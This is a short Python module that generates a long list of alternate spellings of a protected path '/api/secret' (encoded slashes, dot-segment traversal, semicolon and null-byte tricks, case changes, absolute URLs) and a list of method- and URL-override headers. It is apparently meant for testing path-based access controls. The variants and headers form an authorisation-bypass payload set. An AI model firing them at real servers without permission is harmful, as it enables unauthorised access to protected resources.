"""Spellings of one protected path: what some server, framework or proxy is known to read as /api/secret."""
import itertools


def variants(path="/api/secret"):
    """Request targets as they go over the wire."""
    found = []
    segments = path.strip("/").split("/")
    a, b = segments
    for sep in ("/", "//", "///", "/./", "/x/../", "%2f", "%2F", "/%2e/", "/%2E/", "/x/%2e%2e/", "/x/%2e./", "\\", "%5c", "/;/", "/;x=1/",
                "/x/..;/", "%252f", "%c0%af", "/%00/", "%00/", "/%20", "%20/", "/%09", "/.%00/", "/..%2fapi/", "/%ef%bc%8f", "/x/..%5c"):
        found.append(f"/{a}{sep}{b}")
    for lead in ("//", "///", "/./", "/../", "/x/../", "/%2e/", "/%2e%2e/", "/.;/", "/;/", "/;a=b/", "/\\", "/%5c", "/%2f", "/%252f",
                 "/public/../", "/public/%2e%2e/", "/public/..%2f", "/public/..;/", "/public/page/../../", "/public\\..\\",
                 "/public/%2e%2e%2f", "/public/%252e%252e/", "/public/.%2e/", "/public//../", "/public/./../"):
        found.append(f"{lead}{a}/{b}")
    for tail in ("/", "//", "/.", "/./", "/..", "/../secret", "/x/..", ";", ";x=1", ";jsessionid=1", "%20", "%09", "%00", "%00.png",
                 "%0a", "%0d%0a", ".json", ".xml", ".html", ".", "%2e", "%2ejson", "/%2e", "%3b", "%3f", "%3fa=b", "%23", "#", "#x",
                 "?", "?a=b", "?/public/page", "?x=/../", "??", "?#", "&a", "~", "*", "%2f", "%5c", "\\", "%ff", "%c2%a0", "%e2%80%8b",
                 "%u002e", "%", "%2", "%zz", "+", ",", "'", "!", ":80", "@"):
        found.append(f"/{a}/{b}{tail}")
    for name in ("API/secret", "Api/secret", "api/Secret", "api/SECRET", "API/SECRET"):
        found.append("/" + name)
    for i, c in enumerate(a + b):  # each letter encoded, once and twice
        for form in (f"%{ord(c):02x}", f"%{ord(c):02X}", f"%25{ord(c):02x}"):
            letters = list(a + b)
            letters[i] = form
            found.append("/" + "".join(letters[:len(a)]) + "/" + "".join(letters[len(a):]))
    whole = "".join(f"%{ord(c):02x}" for c in a), "".join(f"%{ord(c):02x}" for c in b)
    found += [f"/{whole[0]}/{whole[1]}", f"/{whole[0]}/{b}", f"/{a}/{whole[1]}"]
    found += [f"{scheme}://{host}{rest}" for scheme, host, rest in itertools.product(
        ("http", "https", "HTTP", "ftp"), ("localhost", "other", "localhost:1", "u@localhost", ""),
        (path, "//api/secret", "/x/../api/secret", "/public/../api/secret"))]
    found += ["*", "api/secret", "", "?/api/secret", "#/api/secret", "/public/page#/../../api/secret", "/public/page?/../../api/secret",
              "/public/page%3f/../../api/secret", "/public/page%23/../../api/secret", "/public/page/%2e%2e/%2e%2e/api/secret",
              "/public/page;/../../api/secret", "/public/page%00/../../api/secret"]
    return list(dict.fromkeys(found))


OVERRIDES = [("X-HTTP-Method-Override", "POST"), ("X-HTTP-Method", "POST"), ("X-Method-Override", "DELETE"),
             ("X-Original-URL", "/api/secret"), ("X-Rewrite-URL", "/api/secret")]
